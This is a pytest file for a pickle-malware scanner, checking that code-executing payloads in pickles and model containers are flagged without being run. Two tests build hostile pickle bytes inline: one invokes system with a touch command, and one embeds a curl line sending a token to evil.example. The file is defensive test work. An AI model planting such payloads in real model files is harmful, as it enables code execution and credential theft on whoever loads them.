"""A pickle that runs code, in every container that can hold one: never unpickled, and the scan names the callable.

And the other side: what the common libraries write raises no alarm.
"""

from __future__ import annotations

import statistics
import sys
import time
from pathlib import Path

import pytest
from tests import scan_benign, scan_malicious

from assay.artifacts.scan.scan import Scan, put_together, scan
from assay.findings import Severity
from assay.formats.base import ViewContent

MALICIOUS = scan_malicious.every()
# These have no one name to tell: it is put together, or numbered, or there is none but a method.
NAMELESS = {
    "opcodes/put-together.pkl": "scan.unresolvable-global",
    "opcodes/unknown-memo.pkl": "scan.unresolvable-global",
    "opcodes/turned.pkl": "scan.unresolvable-global",
    "opcodes/persistent.pkl": "scan.unresolvable-global",
    "opcodes/extension-1.pkl": "scan.extension-code",
    "opcodes/extension-4.pkl": "scan.extension-code",
    "opcodes/indirect.pkl": "scan.indirect-call",
    "opcodes/patched-plainly.pkl": "scan.patched-global",
}


def looked_through(name: str, body: bytes) -> Scan:
    return put_together("model", [(name, ViewContent(memoryview(body)))])


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("benign") / "models"
    scan_benign.write_all(folder)
    return folder


def test_there_are_enough_of_both_kinds(benign: Path) -> None:
    assert len([path for path in benign.rglob("*") if path.is_file()]) >= 140
    assert len(MALICIOUS) >= 180


@pytest.mark.parametrize("name", [name for name in MALICIOUS if not name.startswith("others/")])
def test_what_a_pickle_would_call_is_named(name: str) -> None:
    found = looked_through(name, MALICIOUS[name])
    assert found.outcome == "fail"
    if name in NAMELESS:
        assert NAMELESS[name] in {finding.rule for finding in found.findings}
        return
    dangerous = [one for one in found.findings if one.rule == "scan.dangerous-global"]
    assert dangerous
    assert all(one.severity is Severity.CRITICAL for one in dangerous)
    said = {str(one.numbers["global"]) for one in dangerous}
    if name.startswith("names/"):
        path = name.removeprefix("names/name-").removesuffix(".pkl")
        assert path in said
    else:
        known = ("system", "Popen", "eval", "getoutput", "sklearn.os")
        assert any(one.endswith(known) for one in said), said


@pytest.mark.parametrize("name", [name for name in MALICIOUS if name.startswith("others/")])
def test_code_that_is_no_pickle_is_found(name: str) -> None:
    found = looked_through(name.rpartition("/")[2], MALICIOUS[name])
    assert found.outcome == "fail", [finding.detail for finding in found.findings]


def test_what_common_libraries_write_raises_no_alarm(benign: Path) -> None:
    found = scan(benign)
    assert [one.detail for one in found.findings if one.severity.rank >= Severity.WARNING.rank] == []
    assert found.outcome == "pass"


def test_the_same_files_with_one_poisoned_are_told_apart(benign: Path, tmp_path: Path) -> None:
    (tmp_path / "good.joblib").write_bytes(next(iter(sorted((benign / "sklearn").glob("*.joblib")))).read_bytes())
    (tmp_path / "bad.joblib").write_bytes(MALICIOUS["containers/inline.joblib"])
    found = scan(tmp_path)
    assert {finding.subject for finding in found.findings} == {"bad.joblib"}


def test_nothing_is_imported_or_run_while_scanning(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    body = scan_malicious.SYSTEM + f"(S'touch {marker}'\ntR.".encode()
    names = b"cantigravity\nfly\n." + b"cthis\nd\n."
    before = set(sys.modules)
    looked_through("model.pkl", body)
    looked_through("model.pkl", names)
    assert not marker.exists()
    assert not {"antigravity", "this"} & (set(sys.modules) - before)


def test_a_file_takes_milliseconds(benign: Path) -> None:
    # The figure itself is measured in benchmarks/scan; here the processor's time counts, ten times over.
    seconds = []
    for path in sorted(path for path in benign.rglob("*") if path.is_file()):
        begin = time.thread_time()
        scan(path)
        seconds.append(time.thread_time() - begin)
    assert statistics.median(seconds) < 0.05


def test_where_it_lies_is_said() -> None:
    found = looked_through("model.nemo", MALICIOUS["containers/model.nemo"]).findings
    (finding,) = [one for one in found if one.subject == "model.nemo:weights.ckpt!archive/data.pkl"]
    assert "posix.system" in finding.detail
    assert "(str[4])" in finding.detail
    assert isinstance(finding.numbers["offset"], int)


def test_what_the_arguments_say_is_never_shown() -> None:
    body = scan_malicious.SYSTEM + b"(S'curl -H token:hunter2 evil.example'\ntR."
    assert "hunter2" not in repr(looked_through("model.pkl", body).as_json())
